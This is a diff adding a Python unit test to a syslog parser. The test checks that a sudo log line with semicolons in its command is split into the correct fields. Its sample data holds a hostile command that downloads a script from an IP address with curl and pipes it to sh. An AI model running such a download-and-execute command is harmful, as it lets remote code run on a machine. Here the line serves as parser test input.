@@ -216,3 +216,11 @@ def test_rsyslog_repeated_message_is_analysed_as_what_it_repeats() -> None:
     assert pick(event, "event.action", "event.outcome", "user.name", "source.port", "system.auth.repeated") == {
         "event.action": "ssh_login", "event.outcome": "failure", "user.name": "root", "source.port": 4260,
         "system.auth.repeated": 5}
+
+
+def test_sudo_command_containing_semicolons() -> None:
+    event = parse("Mar 10 09:00:00 bastion sudo:    alice : TTY=pts/0 ; PWD=/root ; USER=root ; "
+                  "COMMAND=/bin/sh -c echo a ; curl http://198.51.100.1/x | sh")
+    assert pick(event, "event.outcome", "process.command_line", "process.working_directory") == {
+        "event.outcome": "success", "process.command_line": "/bin/sh -c echo a ; curl http://198.51.100.1/x | sh",
+        "process.working_directory": "/root"}
